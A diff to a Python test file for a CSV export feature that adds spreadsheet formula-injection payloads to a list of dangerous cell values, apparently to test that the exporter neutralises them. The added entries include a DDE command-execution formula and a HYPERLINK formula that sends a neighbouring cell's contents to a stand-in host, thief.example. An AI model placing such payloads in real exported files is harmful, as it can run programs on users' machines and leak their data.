@@ -12,6 +12,8 @@ from countries.api.exports import csv_parts, safe_cell
 from tests.make import make_country, make_practice, make_version
 
 DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A1", " =1+1"]
+# A program started by dynamic data exchange, and a link that carries what stands beside it to somebody else.
+DANGEROUS += ["=cmd|'/C calc'!A0", '=HYPERLINK("https://thief.example/?"&A1,"Source")', "@IMPORTXML(A1)"]
 
 
 def read(client, path, **headers):
